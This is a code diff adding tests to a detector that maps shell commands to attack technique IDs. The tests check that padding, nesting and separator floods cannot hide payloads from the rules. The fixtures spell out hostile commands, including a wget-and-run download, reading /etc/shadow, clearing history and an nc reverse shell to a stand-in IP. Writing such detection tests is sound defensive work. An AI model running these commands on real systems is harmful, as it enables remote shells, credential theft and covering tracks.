@@ -136,9 +136,84 @@ describe('the shipped rule pack', () => {
     }
   })
 
-  it(`reads only the first ${MAX_TEXT_LENGTH} characters of a command`, () => {
-    assert.deepEqual(techniques(`${'x'.repeat(MAX_TEXT_LENGTH - 10)}; uname -a`), ['T1082'])
-    assert.deepEqual(techniques(`${'x'.repeat(MAX_TEXT_LENGTH)}; uname -a`), [])
+  describe('padding cannot hide a payload', () => {
+    const BARE = 'wget http://203.0.113.9/x.sh; sh x.sh; cat /etc/shadow; crontab -l; history -c'
+    const PADDED = {
+      'a 4,100-character no-op in front': `: ${'A'.repeat(4100)}; ${BARE}`,
+      'true; a thousand times in front': `${'true;'.repeat(1000)}${BARE}`,
+    }
+
+    it('the bare payload gets its four techniques', () => {
+      assert.deepEqual(techniques(BARE), ['T1003.008', 'T1059.004', 'T1070.003', 'T1105'])
+    })
+
+    for (const [name, text] of Object.entries(PADDED)) {
+      it(`${name}: exactly the bare payload's techniques, from the same rules`, () => {
+        const bare = tagsFor(matcher, BARE)
+        const padded = tagsFor(matcher, text)
+        assert.ok(text.length > MAX_TEXT_LENGTH)
+        assert.deepEqual(techniques(text), techniques(BARE))
+        assert.deepEqual(padded.map((tag) => [tag.rule_id, tag.technique_id, tag.sub_technique_id]), bare.map((tag) => [tag.rule_id, tag.technique_id, tag.sub_technique_id]))
+      })
+    }
+
+    it('evidence records a cut: how much of the command the rules saw', () => {
+      const text = PADDED['a 4,100-character no-op in front']
+      const seen = text.length - (4102 - MAX_TEXT_LENGTH)
+      const note = ` [cut: rules saw ${seen.toLocaleString('en-US')} of ${text.length.toLocaleString('en-US')} characters]`
+      const evidence = Object.fromEntries(tagsFor(matcher, text).map((tag) => [tag.technique_id, tag.evidence]))
+      assert.equal(evidence.T1105, `wget http://203.0.113.9/x.sh${note}`)
+      assert.equal(evidence.T1003, `cat /etc/shadow${note}`)
+      const match = matcher.match('command', text)
+      assert.equal(match.unexamined, 6)
+      assert.equal(match.examined + match.unexamined, text.length - 2, 'all but the two characters of `; ` between the windows')
+    })
+
+    it('records no cut when nothing was cut (short commands packed into windows)', () => {
+      const text = PADDED['true; a thousand times in front']
+      for (const tag of tagsFor(matcher, text)) assert.doesNotMatch(tag.evidence, /cut/)
+      assert.equal(matcher.match('command', text).unexamined, 0)
+    })
+
+    it('keeps evidence with a cut note within its bound', () => {
+      const text = `: ${'A'.repeat(5000)}; wget http://203.0.113.7/${'a'.repeat(400)}`
+      const [tag] = tagsFor(matcher, text).filter((t) => t.technique_id === 'T1105')
+      assert.match(tag.evidence, /^wget http:\/\/203\.0\.113\.7\/a+… \[cut: rules saw [\d,]+ of [\d,]+ characters\]$/)
+      assert.ok(tag.evidence.length <= MAX_EVIDENCE_LENGTH + 1)
+    })
+
+    it('still sees a rule spanning a pipeline that a long line would have split', () => {
+      const shell = 'rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.7 4444 >/tmp/f'
+      for (let pad = 4000; pad < 4100; pad += 7) {
+        assert.deepEqual(techniques(`: ${'A'.repeat(pad)};${shell}`), techniques(shell), `pad ${pad}`)
+      }
+    })
+
+    it('bounds the rules\' work on hostile splitting inputs by counting windows and regular expressions run', () => {
+      const mb = 1024 * 1024
+      const hostile = {
+        'quotes holding ;': `echo '${'a;'.repeat(mb / 4)}'; ${BARE}`,
+        'a precise pad before a mkfifo shell': `: ${'A'.repeat(4010)}; ${'a;'.repeat(30)}rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.7 4444 >/tmp/f`,
+        'unbalanced $(': `${'$('.repeat(mb / 2)}${BARE}`,
+        'deeply nested $(': `${'$( '.repeat(mb / 6)}${BARE}${')'.repeat(mb / 6)}`,
+        'deeply nested $(echo, a 64 KiB line': `${'$(echo '.repeat(9000)}${BARE}${')'.repeat(9000)}`,
+        'a megabyte of ;': `${';'.repeat(mb)}${BARE}`,
+        'backslash-escaped separators': `${'\\;'.repeat(mb / 2)}; ${BARE}`,
+        'a megabyte of short commands': `${'id;'.repeat(mb / 3)}${BARE}`,
+      }
+      for (const [name, text] of Object.entries(hostile)) {
+        const match = matcher.match('command', text)
+        assert.ok(match.examined <= 6 * text.length, name)
+        assert.ok(match.windows <= (5 * text.length) / MAX_TEXT_LENGTH + 2, `${name}: ${match.windows} windows`)
+        assert.ok(match.regexRuns <= rules.length * match.windows, name)
+      }
+
+      // what is still visible is still seen: the payload after a megabyte of separators or short commands
+      assert.deepEqual(techniques(hostile['a megabyte of ;']), techniques(BARE))
+      assert.deepEqual(techniques(hostile['unbalanced $(']), techniques(BARE))
+      assert.deepEqual(techniques(hostile['deeply nested $(']), techniques(BARE))
+      assert.deepEqual(techniques(hostile['a megabyte of short commands']).filter((t) => t !== 'T1033'), techniques(BARE))
+    })
   })
 
   it('gets through hostile command text quickly (no catastrophic backtracking)', {timeout: 60_000}, () => {
